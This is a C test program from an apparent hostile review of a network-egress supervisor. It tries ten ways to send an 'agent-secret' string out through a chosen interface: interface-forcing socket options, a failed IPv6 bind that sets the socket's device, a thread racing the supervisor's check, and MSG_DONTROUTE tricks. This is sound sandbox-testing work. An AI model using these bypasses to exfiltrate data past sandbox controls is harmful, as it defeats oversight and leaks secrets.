/* pick-interface: sends to a declared IPv4 address, but chooses the
 * interface it leaves by (hostile review h-attack12). Where no route leads
 * to the address through that interface, the kernel takes it for on-link
 * there (ip_route_output_key_hash_rcu: "assume that the destination is on
 * link") and whoever answers for it on that link gets the data. None of the
 * modes needs a capability:
 *
 *   pick-interface DEST:PORT IFNAME MODE...
 *     plain         sendto(DEST): the route (the control)
 *     pktinfo       sendmsg(DEST) with an IP_PKTINFO control message whose
 *                   ipi_ifindex names IFNAME
 *     bindtodevice  SO_BINDTODEVICE IFNAME (an unbound socket needs no
 *                   CAP_NET_RAW since 5.7), then sendto(DEST)
 *     unicastif     IP_UNICAST_IF IFNAME, then sendto(DEST)
 *     tcp           SO_BINDTODEVICE IFNAME, a connect of at most 2 s, write()
 *     bindfail      an IPv6 UDP socket: bind(fe80::dead%IFNAME), which fails
 *                   (nobody's address) but leaves the scope id as the
 *                   socket's device (__inet6_bind, review h-attack13), then
 *                   sendto(::ffff:DEST): no trapped option at all
 *     bindrace      the same, but the failed bind is made by a second thread
 *                   100 ms after the sendto began: inside the supervisor's
 *                   window between judging the socket and sending (the test
 *                   build's device_window seam)
 *     dontroute     sendto(DEST) with MSG_DONTROUTE (review h-attack35):
 *                   IPv4 then takes only a route without a gateway, so one
 *                   covering DEST (a fallback default over IFNAME) wins
 *                   over the route the host chose for DEST
 *     dontroute-opt SO_DONTROUTE, then sendto(DEST)
 *     dontroute-connected  connect(DEST), then send() with no name and
 *                   MSG_DONTROUTE (a nameless send was answered CONTINUE)
 *
 * Each mode sends "agent-secret via MODE" and logs every call; the agent
 * exits 0 whatever the calls returned. */
#include "agentlib.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define USAGE                                                                                      \
	"DEST:PORT IFNAME MODE... (plain pktinfo bindtodevice unicastif tcp bindfail bindrace "    \
	"dontroute dontroute-opt dontroute-connected)"

static long send_pktinfo(int s, const struct agent_dest *d, const char *msg, unsigned ifindex)
{
	union {
		char buf[CMSG_SPACE(sizeof(struct in_pktinfo))];
		struct cmsghdr align;
	} u;
	struct iovec iov = {.iov_base = (void *)msg, .iov_len = strlen(msg)};
	struct msghdr mh = {.msg_name = (void *)&d->ss,
			    .msg_namelen = d->len,
			    .msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = u.buf,
			    .msg_controllen = sizeof(u.buf)};
	struct in_pktinfo pi = {.ipi_ifindex = (int)ifindex};
	struct cmsghdr *c;

	memset(u.buf, 0, sizeof(u.buf));
	c = CMSG_FIRSTHDR(&mh);
	c->cmsg_level = IPPROTO_IP;
	c->cmsg_type = IP_PKTINFO;
	c->cmsg_len = CMSG_LEN(sizeof(pi));
	memcpy(CMSG_DATA(c), &pi, sizeof(pi));
	return sendmsg(s, &mh, 0);
}

/* A connect bounded in time: where nothing answers on the chosen link the
 * SYN is never answered, and the agent must still end. */
static long connect_bounded(int s, const struct agent_dest *d)
{
	struct pollfd p = {.fd = s, .events = POLLOUT};
	int err = 0;
	socklen_t l = sizeof(err);

	fcntl(s, F_SETFL, fcntl(s, F_GETFL) | O_NONBLOCK);
	if (connect(s, (const struct sockaddr *)&d->ss, d->len) == 0)
		return 0;
	if (errno != EINPROGRESS)
		return -1;
	if (poll(&p, 1, 2000) != 1) {
		errno = ETIMEDOUT;
		return -1;
	}
	if (getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &l) != 0 || err != 0) {
		errno = err ? err : EIO;
		return -1;
	}
	return 0;
}

/* bind(fe80::dead%ifindex): EADDRNOTAVAIL, with the device left set. */
static void *failed_bind(void *arg)
{
	struct sockaddr_in6 ll = {.sin6_family = AF_INET6};
	const int *a = arg;
	long r;

	if (a[2])
		usleep(100 * 1000);
	inet_pton(AF_INET6, "fe80::dead", &ll.sin6_addr);
	ll.sin6_scope_id = (uint32_t)a[1];
	r = bind(a[0], (struct sockaddr *)&ll, sizeof(ll));
	agent_log("bind", "[fe80::dead]:0", r, errno, ",\"mode\":\"bindfail\"");
	return NULL;
}

/* The declared IPv4 address as ::ffff:a.b.c.d on an IPv6 socket whose
 * device a failed bind set, before the send or during it. */
static void run_bindfail(const struct agent_dest *d, unsigned ifindex, int race)
{
	struct sockaddr_in6 m = {.sin6_family = AF_INET6};
	const struct sockaddr_in *v4 = (const struct sockaddr_in *)&d->ss;
	const char *msg = race ? "agent-secret via bindrace" : "agent-secret via bindfail";
	int s = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0), a[3] = {s, (int)ifindex, race};
	pthread_t t;
	long r;

	if (s < 0) {
		agent_log("socket", d->text, s, errno, NULL);
		return;
	}
	m.sin6_port = v4->sin_port;
	m.sin6_addr.s6_addr[10] = m.sin6_addr.s6_addr[11] = 0xff;
	memcpy(&m.sin6_addr.s6_addr[12], &v4->sin_addr, 4);
	if (race)
		pthread_create(&t, NULL, failed_bind, a);
	else
		failed_bind(a);
	r = sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&m, sizeof(m));
	agent_log("sendto", d->text, r, errno,
		  race ? ",\"mode\":\"bindrace\"" : ",\"mode\":\"bindfail\"");
	if (race)
		pthread_join(t, NULL);
	close(s);
}

static void run_mode(const char *mode, const struct agent_dest *d, const char *ifname,
		     unsigned ifindex)
{
	char msg[64];
	int tcp = strcmp(mode, "tcp") == 0;
	int s = socket(AF_INET, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
	long r;

	snprintf(msg, sizeof(msg), "agent-secret via %s", mode);
	if (strcmp(mode, "bindfail") == 0 || strcmp(mode, "bindrace") == 0) {
		if (s >= 0)
			close(s);
		run_bindfail(d, ifindex, mode[4] == 'r');
		return;
	}
	if (s < 0) {
		agent_log("socket", d->text, s, errno, NULL);
		return;
	}
	if (strcmp(mode, "pktinfo") == 0) {
		r = send_pktinfo(s, d, msg, ifindex);
		agent_log("sendmsg", d->text, r, errno, ",\"mode\":\"pktinfo\"");
	} else if (strcmp(mode, "unicastif") == 0) {
		unsigned be = htonl(ifindex);

		r = setsockopt(s, IPPROTO_IP, IP_UNICAST_IF, &be, sizeof(be));
		agent_log("setsockopt", NULL, r, errno, ",\"mode\":\"unicastif\"");
		if (r == 0) {
			r = sendto(s, msg, strlen(msg), 0, (const struct sockaddr *)&d->ss, d->len);
			agent_log("sendto", d->text, r, errno, ",\"mode\":\"unicastif\"");
		}
	} else if (strcmp(mode, "bindtodevice") == 0 || tcp) {
		r = setsockopt(s, SOL_SOCKET, SO_BINDTODEVICE, ifname, (socklen_t)strlen(ifname));
		agent_log("setsockopt", NULL, r, errno,
			  tcp ? ",\"mode\":\"tcp\"" : ",\"mode\":\"bindtodevice\"");
		if (r == 0 && tcp) {
			r = connect_bounded(s, d);
			agent_log("connect", d->text, r, errno, ",\"mode\":\"tcp\"");
			if (r == 0) {
				r = write(s, msg, strlen(msg));
				agent_log("write", d->text, r, errno, ",\"mode\":\"tcp\"");
			}
		} else if (r == 0) {
			r = sendto(s, msg, strlen(msg), 0, (const struct sockaddr *)&d->ss, d->len);
			agent_log("sendto", d->text, r, errno, ",\"mode\":\"bindtodevice\"");
		}
	} else if (strcmp(mode, "dontroute-opt") == 0) {
		int on = 1;

		r = setsockopt(s, SOL_SOCKET, SO_DONTROUTE, &on, sizeof(on));
		agent_log("setsockopt", NULL, r, errno, ",\"mode\":\"dontroute-opt\"");
		if (r == 0) {
			r = sendto(s, msg, strlen(msg), 0, (const struct sockaddr *)&d->ss, d->len);
			agent_log("sendto", d->text, r, errno, ",\"mode\":\"dontroute-opt\"");
		}
	} else if (strcmp(mode, "dontroute-connected") == 0) {
		r = connect(s, (const struct sockaddr *)&d->ss, d->len);
		agent_log("connect", d->text, r, errno, ",\"mode\":\"dontroute-connected\"");
		if (r == 0) {
			r = send(s, msg, strlen(msg), MSG_DONTROUTE);
			agent_log("send", d->text, r, errno, ",\"mode\":\"dontroute-connected\"");
		}
	} else {
		int dontroute = strcmp(mode, "dontroute") == 0;

		r = sendto(s, msg, strlen(msg), dontroute ? MSG_DONTROUTE : 0,
			   (const struct sockaddr *)&d->ss, d->len);
		agent_log("sendto", d->text, r, errno,
			  dontroute ? ",\"mode\":\"dontroute\"" : ",\"mode\":\"plain\"");
	}
	close(s);
}

int main(int argc, char **argv)
{
	static const char *const modes[] = {
	    "plain",    "pktinfo",  "bindtodevice", "unicastif",     "tcp",
	    "bindfail", "bindrace", "dontroute",    "dontroute-opt", "dontroute-connected"};
	struct agent_dest d;
	unsigned ifindex;

	agent_init("pick-interface");
	if (argc < 4 || agent_parse_dest(argv[1], &d) < 0 || d.family != AF_INET)
		return agent_usage(USAGE);
	for (int i = 3; i < argc; i++) {
		size_t k = 0;

		while (k < sizeof(modes) / sizeof(modes[0]) && strcmp(argv[i], modes[k]) != 0)
			k++;
		if (k == sizeof(modes) / sizeof(modes[0]))
			return agent_usage(USAGE);
	}
	ifindex = if_nametoindex(argv[2]);
	if (ifindex == 0)
		return agent_usage(USAGE);
	for (int i = 3; i < argc; i++)
		run_mode(argv[i], &d, argv[2], ifindex);
	return 0;
}
